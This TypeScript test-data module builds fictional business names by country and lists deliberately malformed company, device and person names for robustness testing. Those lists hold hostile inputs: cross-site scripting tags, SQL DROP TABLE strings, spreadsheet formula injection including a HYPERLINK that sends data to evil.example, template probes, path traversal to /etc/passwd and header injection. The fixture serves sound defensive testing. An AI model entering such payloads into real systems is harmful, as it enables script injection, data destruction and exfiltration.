// Names of the reseller's customers: a family or a place, and a trade; and the ones that a careless portal
// would choke on.

type Words = readonly [string, ...string[]]

export type Tongue = 'de-de' | 'fr-fr' | 'pl-pl' | 'en-us' | 'sv-se' | 'tr-tr' | 'es-es'

/** Country by country: what a business there is called, its time zone, its telephone prefix. */
export type Country = {
  language: Tongue
  timezone: string
  prefix: string
  owners: Words
  trades: Words
  form: Words
  /** `Lakeside Dental`, where elsewhere it is `Zahnärzte Elbe`. */
  ownerFirst?: true
}

export const countries: readonly [Country, ...Country[]] = [
  {
    language: 'de-de',
    timezone: 'Europe/Berlin',
    prefix: '+4930',
    owners: [
      'Vogel',
      'Grünewald',
      'Nordstern',
      'Müller & Söhne',
      'Elbe',
      'Steinbach',
      'Hölderlin',
      'Weißenfels',
      'Schwarzwald',
      'Krüger',
      'Lindemann',
      'Hoffmann',
      'Seeblick',
      'Jäger',
      'Brandenburg',
      'Österreicher',
      'Wiegand',
      'Rosenthal',
      'Lorenz',
      'Thießen',
    ],
    trades: [
      'Bäckerei',
      'Druckerei',
      'Zahnärzte',
      'Steuerberatung',
      'Autohaus',
      'Fensterbau',
      'Apotheke',
      'Hausverwaltung',
      'Spedition',
      'Blumen',
      'Optik',
      'Gasthof',
      'Kanzlei',
    ],
    form: ['GmbH', 'e.K.', 'GmbH & Co. KG', ''],
  },
  {
    language: 'fr-fr',
    timezone: 'Europe/Paris',
    prefix: '+3314',
    owners: [
      'Lefèvre',
      'du Château',
      'Côte d’Azur',
      'Béranger',
      'Saint-Étienne',
      'Hôtel-Dieu',
      'Dubois',
      'L’Étoile',
    ],
    trades: [
      'Boulangerie',
      'Cabinet dentaire',
      'Notaires',
      'Garage',
      'Transports',
      'Pharmacie',
      'Crèche',
      'Librairie',
    ],
    form: ['SARL', 'SAS', 'SA', ''],
  },
  {
    language: 'pl-pl',
    timezone: 'Europe/Warsaw',
    prefix: '+4822',
    owners: ['Wiśniewski', 'Łódzkie', 'Żubr', 'Święty Jan', 'Dąbrowa', 'Bałtyk', 'Źródło'],
    trades: ['Piekarnia', 'Spedycja', 'Kancelaria', 'Apteka', 'Hurtownia', 'Szkoła językowa'],
    form: ['sp. z o.o.', 'S.A.', ''],
  },
  {
    language: 'en-us',
    timezone: 'America/Chicago',
    prefix: '+1312',
    owners: [
      'Hawthorn',
      'Lakeside',
      'O’Hare',
      'Maple & Oak',
      'Blue Heron',
      'Fifth Street',
      'Prairie',
      'Sunny Side Up',
      'Ironworks',
    ],
    trades: [
      'Plumbing',
      'Dental',
      'Law',
      'Logistics',
      'Realty',
      'Bakery',
      'Insurance',
      'Veterinary',
      'Hardware',
      'Church',
    ],
    form: ['Inc.', 'LLC', 'Co.', ''],
    ownerFirst: true,
  },
  {
    language: 'sv-se',
    timezone: 'Europe/Stockholm',
    prefix: '+468',
    owners: ['Ångström', 'Björkö', 'Södermalm', 'Norrsken', 'Älvsjö', 'Lindqvist'],
    trades: ['Bageri', 'Tandläkare', 'Åkeri', 'Advokatbyrå', 'Bokhandel', 'Fastigheter'],
    form: ['AB', 'HB', ''],
    ownerFirst: true,
  },
  {
    language: 'tr-tr',
    timezone: 'Europe/Istanbul',
    prefix: '+90212',
    owners: ['Yılmaz', 'Boğaziçi', 'Güneş', 'Çınar', 'Şahin', 'İpek'],
    trades: ['Fırın', 'Lojistik', 'Hukuk', 'Eczane', 'Tekstil', 'Otel'],
    form: ['A.Ş.', 'Ltd. Şti.', ''],
    ownerFirst: true,
  },
  {
    language: 'es-es',
    timezone: 'Europe/Madrid',
    prefix: '+3491',
    owners: ['Núñez', 'El Niño', 'Peña Alta', 'Güell', 'Ibáñez', 'La Española'],
    trades: ['Panadería', 'Clínica', 'Abogados', 'Transportes', 'Farmacia', 'Construcción'],
    form: ['S.L.', 'S.A.', ''],
  },
]

/**
 * Account names in which something hides: markup, quotes, emoji, right-to-left, formulas, controls, great
 * length.
 */
export const oddCompanies: Words = [
  '<script>alert("kazoo")</script> Ltd',
  '"><img src=x onerror=alert(1)> Imports',
  "Bobby'); DROP TABLE accounts;-- School",
  '"Quoted" & \'Apostrophed\' <b>Bold</b> Co',
  "=cmd|'/C calc'!A0 Consulting",
  '+1+1 Accounting',
  '-2+3 Engineers',
  '@SUM(A1:A9) Spreadsheets',
  '🍕 Pizza Palace 🍕🚀',
  '👩‍👩‍👧‍👦 Family Practice',
  'مخبز النور (Al Noor Bakery)',
  'משרד עורכי דין כהן (Cohen Law)',
  '\u202Egnp.exe\u202C Reversed Signs',
  '株式会社さくら通信 (Sakura Tsushin)',
  'Ωmega Ελλάς ΑΕ',
  'ООО «Ромашка» (Romashka)',
  'Zalgo Z̸̢̛a̷̡l̶g̵o̴ Studio',
  '  Leading and   inner   spaces',
  'Tab\tand\u200Bzero\u200Dwidth',
  'null',
  'undefined',
  '0',
  '__proto__ Holdings',
  'constructor',
  '${7*7} {{7*7}} <%= 7*7 %> Templates',
  '../../etc/passwd Archives',
  '%00%0d%0aSet-Cookie: a=b Web',
  'javascript:alert(1) Agency',
  'ＦＵＬＬＷＩＤＴＨ Ｌｔｄ 1',
  'Straße İstanbul ﬁne ﬂow',
  'Rhabarberbarbarabarbarbarenbartbarbierbierbarbärbel Gastronomie und Veranstaltungen Süd-Südwest Beteiligungs-GmbH & Co. KGaA Xy',
  'Taumatawhakatangihangakoauauotamateaturipukakapikimaungahoronukupokaiwhenuakitanatahu',
]

/** Device names with the same oddities. */
export const oddDevices: Words = [
  '<script>alert(document.cookie)</script>',
  '<svg/onload=alert(1)> lobby',
  '=HYPERLINK("http://evil.example/?"&A1,"Front desk")',
  '@Reception',
  "-1+cmd|' /C calc'!A0",
  'Büro "Süd" & Lager <2. OG>',
  "Chef's phone",
  '☎️ Hotline 🔥',
  'هاتف الاستقبال',
  'טלפון קבלה',
  '受付の電話',
  '\u202Elobby\u202C',
  'a',
  'Phone\nwith a new line',
  'ein sehr langer Gerätename der die Spalte sprengt weil jemand den ganzen Standort samt Etage, Zimmer und Fensterplatz eintrug!',
]

/** First and last names of people with the same oddities. */
export const oddPeople: readonly [readonly [string, string], ...(readonly [string, string])[]] = [
  ['<b>Bob</b>', '</td><script>alert(2)</script>'],
  ["Robert'); DROP TABLE users;--", 'Tables'],
  ['=1+1', '@formula'],
  ['"Quote"', "O'Quote"],
  ['💃', '🕺🏿'],
  ['\u202EesreveR\u202C', 'Override'],
  [
    'Wolfeschlegelsteinhausenbergerdorff',
    'Hubert Blaine Senior der Ältere von und zu Wolfeschlegelsteinhausenbergerdorffwelchevoralternwaren',
  ],
  ['X Æ', 'A-12'],
]
